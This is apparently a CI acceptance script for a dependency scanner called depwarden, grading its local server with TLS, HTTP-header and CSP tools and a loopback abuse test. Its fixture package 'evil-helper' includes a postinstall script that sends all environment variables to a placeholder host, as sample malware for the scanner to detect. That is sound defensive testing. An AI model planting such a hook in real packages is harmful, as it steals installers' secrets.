/**
 * The web-security acceptance run (issue 7), as CI runs it: the built CLI's `depwarden serve`
 * on loopback with its generated local CA, a real snapshot scanned against a fixture registry
 * through `depwarden scan --upload`, and then the public graders' own code against it, from
 * ../shared/tools/websec:
 *
 * - testssl.sh 3.2 (the SSL Labs rating guide): overall A+, nothing older than TLS 1.2;
 * - the MDN HTTP Observatory package: A+ (score >= 100) with every test passing, on the
 *   landing page and on a report page;
 * - Google's csp_evaluator: no high-severity finding, on both origins' policies;
 * - `depwarden doctor`: every check passing;
 * - scripts/abuse-test.ts against the same server: it stays up and keeps its data.
 *
 * Each tool's output is kept in test-artifacts/websec/. Loopback only; bounded in time.
 * Usage: npm run test:websec [-- --skip-testssl]
 */
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { Agent, fetch } from 'undici';
import { FixtureRegistry, npmLockfile, packageJson } from '../test/helpers/fixture-registry.js';
import { freePort } from '../test/helpers/ports.js';

const root = resolve(new URL('..', import.meta.url).pathname);
const shared = resolve(root, '..', 'shared', 'tools', 'websec');
const artifacts = join(root, 'test-artifacts', 'websec');
const bin = join(root, 'dist', 'cli', 'bin.js');
const skipTestssl = process.argv.includes('--skip-testssl');

const results: { name: string; ok: boolean; detail: string }[] = [];
function record(name: string, ok: boolean, detail: string): void {
  results.push({ name, ok, detail });
  process.stdout.write(`${ok ? 'PASS' : 'FAIL'} ${name}: ${detail}\n`);
}

/**
 * Runs a tool to completion. Asynchronously, never spawnSync: the fixture registry the server
 * fetches from lives in this process and must keep answering meanwhile.
 */
function run(
  command: string,
  args: string[],
  options: { env?: NodeJS.ProcessEnv; timeoutMs: number },
): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((done) => {
    const child = spawn(command, args, {
      cwd: root,
      env: { ...process.env, ...options.env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    const timer = setTimeout(() => {
      stderr += `\n(killed after ${options.timeoutMs} ms)`;
      child.kill('SIGKILL');
    }, options.timeoutMs);
    child.on('close', (code) => {
      clearTimeout(timer);
      done({ code: code ?? 1, stdout, stderr });
    });
  });
}

const PACKAGES = [
  {
    name: 'tiny-lib',
    versions: [{ version: '1.0.0', files: { 'index.js': 'module.exports = (a, b) => a + b;\n' } }],
  },
  {
    name: 'evil-helper',
    publisher: 'mallory',
    versions: [
      {
        version: '1.0.1',
        files: {
          'package.json': JSON.stringify({ scripts: { postinstall: 'node install.js' } }),
          'index.js': 'module.exports = {};\n',
          // Inert: names a host that cannot resolve; never run, only analysed.
          'install.js':
            "const https = require('https');\nconst req = https.request({ hostname: 'collector.example.invalid', method: 'POST' });\nreq.write(JSON.stringify(process.env));\nreq.end();\n",
        },
      },
    ],
  },
];

async function main(): Promise<number> {
  if (!existsSync(bin)) throw new Error(`${bin} is missing: run npm run build (npm ci does) first`);
  if (!existsSync(shared))
    throw new Error(`${shared} is missing: ../shared must sit beside the repository`);
  await rm(artifacts, { recursive: true, force: true });
  await mkdir(artifacts, { recursive: true });
  const work = await mkdtemp(join(tmpdir(), 'dw-websec-'));
  const registry = new FixtureRegistry();
  const registryUrl = await registry.start(PACKAGES);
  const [port, httpPort, usercontentPort] = [await freePort(), await freePort(), await freePort()];
  const dataDir = join(work, 'data');
  const server = spawn(
    process.execPath,
    [
      bin,
      'serve',
      '--data-dir',
      dataDir,
      '--port',
      String(port),
      '--redirect-port',
      String(httpPort),
      '--usercontent-port',
      String(usercontentPort),
      '--registry',
      registryUrl,
      // Shorter than the defaults so the slow-body part of the abuse run ends sooner.
      '--request-timeout',
      '15s',
    ],
    { cwd: work, stdio: ['ignore', 'pipe', 'pipe'] },
  );
  let serverLog = '';
  server.stdout.on('data', (c: Buffer) => (serverLog += c.toString()));
  server.stderr.on('data', (c: Buffer) => (serverLog += c.toString()));
  try {
    const deadline = Date.now() + 30_000;
    while (!/listening on/.test(serverLog)) {
      if (Date.now() > deadline || server.exitCode !== null)
        throw new Error(`depwarden serve did not start:\n${serverLog}`);
      await sleep(100);
    }
    const caPath = join(dataDir, 'tls', 'ca.pem');
    record('serve prints the generated CA path', serverLog.includes(caPath), caPath);
    const main = `https://localhost:${port}`;
    const usercontent = `https://127.0.0.1:${usercontentPort}`;

    // A real report: a project with a lockfile, scanned by the server through the CLI client.
    const project = join(work, 'project');
    await mkdir(project, { recursive: true });
    const fixture = {
      name: 'websec-app',
      dependencies: { 'tiny-lib': '^1.0.0', 'evil-helper': '^1.0.0' },
      installed: ['tiny-lib@1.0.0', 'evil-helper@1.0.1'],
    };
    await writeFile(join(project, 'package.json'), packageJson(fixture));
    await writeFile(join(project, 'package-lock.json'), npmLockfile(fixture, registry));
    const upload = await run(
      process.execPath,
      [bin, 'scan', project, '--upload', '--server', main, '--ca', caPath, '--format', 'json'],
      { timeoutMs: 120_000 },
    );
    await writeFile(join(artifacts, 'upload.txt'), `${upload.stderr}\n${upload.stdout}`);
    const report = JSON.parse(upload.stdout || '{}') as {
      snapshot?: { id?: string };
      alerts?: unknown[];
    };
    const id = report.snapshot?.id;
    record(
      'scan --upload returns a report',
      typeof id === 'string' && (report.alerts?.length ?? 0) > 0,
      `exit ${upload.code}, ${report.alerts?.length ?? 0} alerts${upload.code > 1 ? `: ${upload.stderr.slice(0, 500)}` : ''}`,
    );
    const ca = await readFile(caPath);
    const dispatcher = new Agent({ connect: { ca: [ca] } });
    const viewer = await fetch(`${main}/r/${id ?? 'missing'}`, { dispatcher });
    const viewerHtml = await viewer.text();
    record(
      'the viewer shows the report',
      viewer.status === 200 && /evil-helper/.test(viewerHtml),
      `status ${viewer.status}`,
    );
    const evidenceLink = /href="(https:\/\/127\.0\.0\.1:\d+\/[^"]+)"/
      .exec(viewerHtml)?.[1]
      ?.replace(/&amp;/g, '&');
    if (evidenceLink !== undefined) {
      const file = await fetch(evidenceLink, { dispatcher });
      const text = await file.text();
      record(
        'an evidence link opens the file on the user-content origin',
        file.status === 200 &&
          /^text\/plain/.test(file.headers.get('content-type') ?? '') &&
          /sandbox/.test(file.headers.get('content-security-policy') ?? '') &&
          text.length > 0,
        `${file.status} ${file.headers.get('content-type') ?? ''}`,
      );
    } else
      record(
        'an evidence link opens the file on the user-content origin',
        false,
        'no link in the page',
      );

    // MDN HTTP Observatory, its own package: the landing page and the report page.
    for (const [name, path] of [
      ['landing page', '/'],
      ['report page', `/r/${id ?? ''}`],
    ] as const) {
      const obs = await run(
        process.execPath,
        [
          join(shared, 'observatory-grade.mjs'),
          `${main}${path}`,
          '--http-port',
          String(httpPort),
          '--ca',
          caPath,
          '--json',
        ],
        { timeoutMs: 300_000 },
      );
      await writeFile(
        join(artifacts, `observatory-${name.replace(' ', '-')}.json`),
        obs.stdout + obs.stderr,
      );
      let parsed: {
        scan?: { grade?: string; score?: number };
        tests?: Record<string, { pass?: boolean }>;
      } = {};
      try {
        parsed = JSON.parse(obs.stdout.slice(obs.stdout.indexOf('{'))) as typeof parsed;
      } catch {
        /* reported below */
      }
      const failing = Object.entries(parsed.tests ?? {})
        .filter(([, t]) => t.pass === false)
        .map(([k]) => k);
      record(
        `Observatory grades the ${name} A+ with every test passing`,
        parsed.scan?.grade === 'A+' && (parsed.scan?.score ?? 0) >= 100 && failing.length === 0,
        `${parsed.scan?.grade ?? '?'} ${parsed.scan?.score ?? '?'}${failing.length > 0 ? `; failing: ${failing.join(', ')}` : ''}${parsed.scan?.grade === undefined ? ` (${obs.stderr.slice(-300)})` : ''}`,
      );
    }

    // csp_evaluator on both origins' policies, with the promise profiles of the tool.
    const mainCsp = viewer.headers.get('content-security-policy') ?? '';
    const ucResponse = await fetch(`${usercontent}/`, { dispatcher });
    const ucCsp = ucResponse.headers.get('content-security-policy') ?? '';
    for (const [name, policy, profile] of [
      ['main origin', mainCsp, 'app'],
      ['user-content origin', ucCsp, 'usercontent'],
    ] as const) {
      const csp = await run(
        process.execPath,
        [join(shared, 'csp-check.mjs'), '--profile', profile, '--fail-on', 'high', policy],
        {
          timeoutMs: 120_000,
        },
      );
      await writeFile(join(artifacts, `csp-${profile}.txt`), csp.stdout + csp.stderr);
      record(
        `csp_evaluator: no high-severity finding and every promise kept (${name})`,
        csp.code === 0 && policy !== '',
        csp.stdout.split('\n').find((l) => /finding\(s\)/.test(l)) ?? `exit ${csp.code}`,
      );
    }

    // depwarden doctor, as a deployment would be checked.
    const doctor = await run(
      process.execPath,
      [
        bin,
        'doctor',
        `${main}/`,
        '--ca',
        caPath,
        '--http-port',
        String(httpPort),
        '--usercontent',
        `${usercontent}/`,
      ],
      { timeoutMs: 120_000 },
    );
    await writeFile(join(artifacts, 'doctor.txt'), doctor.stdout + doctor.stderr);
    record(
      'depwarden doctor: every check passes',
      doctor.code === 0,
      doctor.stdout.split('\n').slice(1, 5).join(' | '),
    );

    // testssl.sh 3.2: the SSL Labs rating, trusting our CA.
    if (skipTestssl) record('testssl.sh rating A+', true, 'skipped (--skip-testssl)');
    else {
      const testssl = await run(
        'bash',
        [join(shared, 'tls-grade.sh'), '--ca', caPath, '--min-grade', 'A+', `localhost:${port}`],
        {
          timeoutMs: 600_000,
        },
      );
      await writeFile(join(artifacts, 'testssl.txt'), testssl.stdout + testssl.stderr);
      const grade =
        /Overall Grade\s*:?\s*(\S+)/i.exec(testssl.stdout)?.[1] ??
        /grade[^A-Z]*([A-FMT][+-]?)/i.exec(testssl.stdout)?.[1];
      const old = /(SSLv2|SSLv3|TLS 1(?:\.1)?)\s+offered/i.test(
        testssl.stdout.replace(/not offered/gi, ''),
      );
      record(
        'testssl.sh rates the server A+, nothing older than TLS 1.2 offered',
        testssl.code === 0 && !old,
        `grade ${grade ?? '?'} (exit ${testssl.code})`,
      );
    }
    // Last, because it spends this address's rate limits: the abuse script against the real
    // server (floods, oversized and slow bodies, a connection burst, a legitimate client).
    const abuse = await run(
      process.execPath,
      [
        '--import',
        'tsx',
        join(root, 'scripts', 'abuse-test.ts'),
        '--target',
        `https://127.0.0.1:${port}`,
        '--ca',
        caPath,
        '--seconds',
        '120',
      ],
      { timeoutMs: 180_000 },
    );
    await writeFile(join(artifacts, 'abuse.txt'), abuse.stdout + abuse.stderr);
    record(
      'abuse run: the server stays up, limits hold, legitimate requests succeed, reports intact',
      abuse.code === 0,
      abuse.stdout.trim().split('\n').slice(-1)[0] ?? `exit ${abuse.code}`,
    );
    await dispatcher.close();
  } finally {
    server.kill('SIGTERM');
    await new Promise((done) => {
      if (server.exitCode !== null) done(undefined);
      else server.once('exit', done);
    });
    await writeFile(join(artifacts, 'serve.log'), serverLog);
    await registry.stop();
    await rm(work, { recursive: true, force: true });
  }
  const failed = results.filter((r) => !r.ok);
  process.stdout.write(
    `\nwebsec acceptance: ${results.length - failed.length} passed, ${failed.length} failed (artifacts in test-artifacts/websec/)\n`,
  );
  return failed.length === 0 ? 0 : 1;
}

main().then(
  (code) => process.exit(code),
  (err: unknown) => {
    process.stderr.write(
      `websec acceptance: ${err instanceof Error ? err.message : String(err)}\n`,
    );
    process.exit(1);
  },
);
